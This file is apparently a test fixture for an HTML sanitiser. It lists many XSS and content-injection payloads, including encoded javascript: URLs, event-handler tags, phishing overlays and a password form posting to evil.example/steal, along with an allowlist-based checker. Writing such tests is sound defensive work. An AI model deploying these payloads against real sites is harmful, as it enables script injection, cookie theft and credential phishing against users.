/**
 * Known XSS and content-injection payloads (OWASP XSS Filter Evasion Cheat Sheet style, plus
 * mutation-XSS, DOM-clobbering, overlay and form-phishing vectors), shared by the happy-dom test and
 * the Chromium story so both parsers are exercised. Test-only: not exported from the package.
 */
export const xssPayloads: readonly string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">decimal entities</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">padded entities</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex entities</a>`,
  `<a href="jav\tascript:alert('XSS');">embedded tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">encoded tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">encoded newline</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">encoded carriage return</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">leading spaces and meta char</a>`,
  `<a href="javascript&colon;alert(1)">named colon entity</a>`,
  `<a href="JaVaScRiPt:alert(1)">mixed case scheme</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data URL</a>`,
  `<a href="vbscript:msgbox('XSS')">vbscript URL</a>`,
  `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.example/xss.js?< B >`,
  `<iframe src=http://xss.example/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<math href="javascript:javascript:alert(1)">CLICKME</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.example/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white">Session expired: log in again</div>`,
  `<span style="position:absolute;inset:0">overlay</span>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<base href="https://evil.example/">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
  `<object data="javascript:alert(1)"></object>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>`,
  `<button formaction=javascript:alert(1)>Continue</button>`,
  `<textarea autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)><option>x</option></select>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<template><script>alert(1)</script></template>`,
  `<xss onafterscriptexecute=alert(1)><script>1</script>`,
  `<a id="cookie" name="cookie">DOM clobbering</a>`,
  `<img name="getElementById" src="x">`,
  `<a href="https://ok.example/" target="_self" rel="opener">keeps the opener</a>`,
  `<link rel=import href="data:text/html,<script>alert(1)</script>">`,
  `<p onclick="alert(1)" data-x="1" aria-hidden="true">attributes on allowed tags</p>`,
  `<b style="display:block;position:fixed;inset:0;z-index:2147483647">bold overlay</b>`,
  `<a href="#" onclick="alert(1)">click</a>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<img src="x:x" onerror="alert(1)">`,
  `<a href="  &#x6a;avascript:alert(1)">spaced hex entity</a>`,
];

/** Tags the sanitiser may leave (it must leave nothing else). */
const allowedTags = new Set([
  'A',
  'ABBR',
  'B',
  'BR',
  'CODE',
  'DEL',
  'EM',
  'I',
  'INS',
  'KBD',
  'LI',
  'MARK',
  'OL',
  'P',
  'S',
  'SMALL',
  'SPAN',
  'STRONG',
  'SUB',
  'SUP',
  'U',
  'UL',
]);
const allowedAttributes = new Set(['href', 'title', 'lang', 'dir', 'target', 'rel']);
const safeProtocols = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/**
 * Everything dangerous found under `root` (empty when it is clean): any element outside the
 * allowlist (script, style, form, input, frame, object, embed, svg, math, meta, base, img…), any
 * attribute outside it (event handlers, `style`, `id`, `name`, `data-*`), any link whose URL does
 * not resolve to http(s)/mailto/tel, and any link that does not open in a new tab without the
 * opener.
 */
export function findUnsafeMarkup(root: Element): string[] {
  const problems: string[] = [];
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.tagName.toUpperCase();
    if (!allowedTags.has(tag)) problems.push(`element <${tag.toLowerCase()}>`);
    for (const attribute of Array.from(element.attributes)) {
      if (!allowedAttributes.has(attribute.name.toLowerCase())) {
        problems.push(`attribute ${attribute.name}="${attribute.value}" on <${tag.toLowerCase()}>`);
      }
    }
    if (tag === 'A' && element.hasAttribute('href')) {
      const href = element.getAttribute('href') ?? '';
      let protocol: string;
      try {
        protocol = new URL(href, 'https://console.example/').protocol;
      } catch {
        protocol = 'unparsable:';
      }
      if (!safeProtocols.has(protocol)) problems.push(`link to ${protocol} (${href})`);
      if (element.getAttribute('target') !== '_blank') problems.push(`link without target=_blank`);
      const rel = (element.getAttribute('rel') ?? '').split(/\s+/);
      if (!rel.includes('noopener') || !rel.includes('noreferrer')) {
        problems.push(`link without rel="noopener noreferrer"`);
      }
    }
  }
  return problems;
}
